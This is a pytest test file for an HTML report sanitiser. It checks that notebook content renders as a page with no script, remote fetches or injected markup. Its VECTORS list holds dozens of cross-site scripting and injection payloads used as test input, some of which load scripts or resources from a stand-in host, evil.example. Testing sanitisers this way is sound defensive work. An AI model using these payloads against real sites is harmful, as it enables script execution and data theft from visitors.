"""The page carries the report and nothing else: no script, no address, no markup from labels."""

import base64
import hashlib
import re
from html.parser import HTMLParser

import pytest
from bleach._vendor import html5lib  # the one real HTML5 parser that comes with the library
from bs4 import BeautifulSoup
from example_notebooks import executed, html_output
from hypothesis import given, settings
from hypothesis import strategies as st
from nbformat.v4 import new_output

from skillsfc.report.page import render_page
from skillsfc.report.sanitise import TAGS, clean_html, clean_markdown

VECTORS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.example/pixel.png'>",
    "<svg onload=alert(1)><circle/></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><!--</style>"
    "<img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src='//evil.example'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='jAvAsCrIpT&colon;alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='https://evil.example' target=_blank>x</a>",
    "<form action='https://evil.example'><input name=q><button>go</button></form>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<p style='background:url(https://evil.example)'>x</p>",
    "<table background='https://evil.example/x.png'><tr><td>1</td></tr></table>",
    "<video poster='https://evil.example'><source onerror=alert(1)></video>",
    "<details open ontoggle=alert(1)>x</details>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'>",
    "<p id=content name=x>clobber</p>",
    "<img src='data:image/svg+xml;base64,PHN2Zy8+\" onerror=\"alert(1)'>",
    "<img src='data:text/html;base64,PHNjcmlwdD4='>",
    "<img srcset='https://evil.example/x.png 2x' src=''>",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<<script>alert(1)//<</script>",
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<b onmouseover=alert(1)>x</b>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "</main></body><script>alert(1)</script>",
    "{{ 7919 * 7907 }}{% include 'page.css.j2' %}",
]
FETCHING = ("src", "href", "srcset", "action", "formaction", "data", "poster", "background", "cite")
# What our own template may hold besides the allowlist of notebook content.
OWN_TAGS = {"html", "head", "meta", "title", "style", "body", "header", "nav", "main", "footer"}
ADDED_BY_PARSERS = {"colgroup", "tbody"}


def page(*outputs, markdown=(), manifest=(), tmp_path=None, values=None):
    book = executed(*(("code", [output]) for output in outputs), markdown=markdown)
    return render_page(
        book, manifest=list(manifest), values=values or {}, figures=tmp_path, fingerprint="f" * 64
    )


def assert_harmless(text):
    """Parse as a browser would and refuse every element or attribute that could act or fetch."""
    for element in html5lib.parse(text, namespaceHTMLElements=False).iter():
        if not isinstance(element.tag, str):
            continue  # a comment
        assert element.tag in TAGS | OWN_TAGS | ADDED_BY_PARSERS, element.tag
        for name, value in element.attrib.items():
            assert not name.startswith("on"), (element.tag, name)
            assert name != "style", element.tag
            if name in FETCHING:
                assert re.match(r"#[\w-]+$|data:image/(?!.*[<>\"])", value), value
        assert "refresh" not in element.get("http-equiv", "").lower()


@pytest.mark.parametrize("vector", VECTORS)
def test_no_vector_acts_from_any_place_of_a_notebook(vector, tmp_path):
    text = page(
        html_output(vector),
        new_output("display_data", {"text/markdown": vector}),
        new_output("execute_result", {"text/plain": vector}),
        new_output("stream", name="stdout", text=vector),
        new_output("display_data", {"application/javascript": vector}),
        new_output("display_data", {"image/png": "aGk="}, metadata={"image/png": {"alt": vector}}),
        new_output("display_data", {"image/svg+xml": vector}),
        markdown=(vector, f"# {vector}", f"## Part {vector}", f"[x]({vector})", f"![{vector}](x)"),
        manifest=[{"kind": "facts", "facts": {"title": vector, "vintage": vector, "date": vector}}],
        tmp_path=tmp_path,
    )
    assert_harmless(text)
    assert "62615533" not in text  # nothing evaluates template text that comes from a notebook


def test_the_check_itself_finds_the_harm_in_raw_vectors():
    caught = 0
    for vector in VECTORS:
        try:
            assert_harmless(vector)
        except AssertionError:
            caught += 1
    assert caught >= 28


@given(st.text(alphabet="<>/='\" \nabimgscriptonerrhef:#&;!-", max_size=60))
@settings(max_examples=50, deadline=None)
def test_no_text_of_markup_characters_acts(text):
    assert_harmless(clean_html(text))
    assert_harmless(clean_markdown(text))


def test_the_policy_of_the_page_allows_its_own_style_only(tmp_path):
    text = page(html_output("<p>x</p>"), tmp_path=tmp_path)
    policy = BeautifulSoup(text, "html.parser").find("meta", attrs={"http-equiv": True})["content"]
    style = re.search(r"<style>(.*?)</style>", text, re.S).group(1)
    digest = base64.b64encode(hashlib.sha256(style.encode()).digest()).decode()
    assert f"style-src 'sha256-{digest}'" in policy
    assert "default-src 'none'" in policy
    assert "url(" not in style
    assert "http" not in style


def test_links_become_text_with_their_address(tmp_path):
    text = page(
        html_output('<p><a href="https://ilo.org/data">ILO data</a></p>'),
        markdown=("See [the source](https://www.rug.nl/ggdc) and [below](#s1-part).",),
        tmp_path=tmp_path,
    )
    assert "ILO data (https://ilo.org/data)" in text
    assert "the source (https://www.rug.nl/ggdc)" in text
    assert '<a href="#s1-part">below</a>' in text


def test_headings_make_the_title_and_the_contents(tmp_path):
    parts = ("# Work in Morocco", "## People", "### Youth", "## Work & pay", "## Data", "## People")
    soup = BeautifulSoup(page(markdown=parts, tmp_path=tmp_path), "html.parser")
    assert soup.title.string == "Work in Morocco"
    assert [h.get_text() for h in soup.find_all("h1")] == ["Work in Morocco"]
    links = soup.nav.find_all("a")
    assert [link.get_text() for link in links] == ["People", "Work & pay", "Data", "People"]
    targets = [link["href"][1:] for link in links]
    assert len(set(targets)) == 4
    assert all(soup.find("h2", id=target) for target in targets)


@pytest.mark.parametrize(
    ("language", "direction"), [("en", "ltr"), ("fr", "ltr"), ("ar", "rtl"), ("ru", "ltr")]
)
def test_language_and_direction_are_declared(language, direction, tmp_path):
    soup = BeautifulSoup(page(values={"language": language}, tmp_path=tmp_path), "html.parser")
    assert soup.html["lang"] == language
    assert soup.html["dir"] == direction


def test_a_published_figure_is_embedded_as_svg_with_its_alt_text(tmp_path):
    (tmp_path / "rise.svg").write_text("<svg xmlns='x'/>")
    about = {"alt": 'It "rises".', "title": "Rise & fall", "name": "rise"}
    picture = new_output("display_data", {"image/png": "aGk="}, metadata={"image/png": about})
    soup = BeautifulSoup(page(picture, tmp_path=tmp_path), "html.parser")
    assert soup.img["alt"] == 'It "rises".'
    assert soup.img["src"].startswith("data:image/svg+xml;base64,")
    assert soup.figcaption.get_text() == "Rise & fall"


def test_a_figure_name_cannot_reach_another_file(tmp_path):
    (tmp_path / "figures").mkdir()
    (tmp_path / "secret.svg").write_text("secret")
    about = {"alt": "x", "name": "../secret"}
    picture = new_output("display_data", {"image/png": "aGk="}, metadata={"image/png": about})
    text = page(picture, tmp_path=tmp_path / "figures")
    assert base64.b64encode(b"secret").decode() not in text
    assert "data:image/png;base64,aGk=" in text


def test_code_errors_warnings_and_object_names_stay_out(tmp_path):
    text = page(
        new_output("execute_result", {"text/plain": "<Axes: title={'center': 'x'}>"}),
        new_output("stream", name="stderr", text="FutureWarning: something"),
        new_output("stream", name="stdout", text="printed"),
        tmp_path=tmp_path,
    )
    assert "Axes" not in text
    assert "FutureWarning" not in text
    assert "<pre>printed</pre>" in text
    assert ">code<" not in text


def test_cells_tagged_hide_are_left_out(tmp_path):
    book = executed(("x", [html_output("<p>seen</p>")]), markdown=("# T", "for authors"))
    book.cells[1].metadata["tags"] = ["hide"]
    text = render_page(book, manifest=[], values={}, figures=tmp_path, fingerprint="f")
    assert "seen" in text
    assert "for authors" not in text


def test_tables_keep_their_structure_and_lose_their_style(tmp_path):
    table = (
        '<style scoped>.x{color:red}</style><table border="1" class="dataframe">'
        '<caption>C</caption><thead><tr><th scope="col">a</th></tr></thead>'
        '<tbody><tr><td class="number" '
        'style="color:red" colspan="2">1</td></tr></tbody></table>'
    )
    cleaned = clean_html(table)
    assert "color:red" not in cleaned
    assert '<th scope="col">a</th>' in cleaned
    assert '<td class="number" colspan="2">1</td>' in cleaned


def test_the_page_is_well_formed(tmp_path):
    open_tags = []

    class Strict(HTMLParser):
        def handle_starttag(self, tag, attributes):
            if tag not in ("meta", "img", "br", "hr"):
                open_tags.append(tag)

        def handle_endtag(self, tag):
            assert open_tags.pop() == tag

    Strict().feed(
        page(html_output("<div><p>unclosed"), markdown=("# T\n\n- a\n- b",), tmp_path=tmp_path)
    )
    assert open_tags == []


def test_a_warning_stands_first_on_the_page_and_is_escaped():
    from skillsfc.report.page import WORDS, fill_template

    texts = ("title", "country", "subtitle", "fingerprint")
    known = dict.fromkeys(texts, "t") | {"language": "en", "direction": "ltr", "words": WORDS["en"]}
    known |= {"about": [], "contents": [], "blocks": []}
    page = fill_template("page", warning="SYNTHETIC <data>", **known)
    assert '<p class="warning" role="note">SYNTHETIC &lt;data&gt;</p>' in page
    assert page.index("SYNTHETIC") < page.index("<header>")
    # In print it stands in the margin of every page; what is no letter is written as its code.
    assert '@top-center { content: "SYNTHETIC \\00003c data\\00003e "' in page
    assert 'class="warning"' not in fill_template("page", warning="", **known)
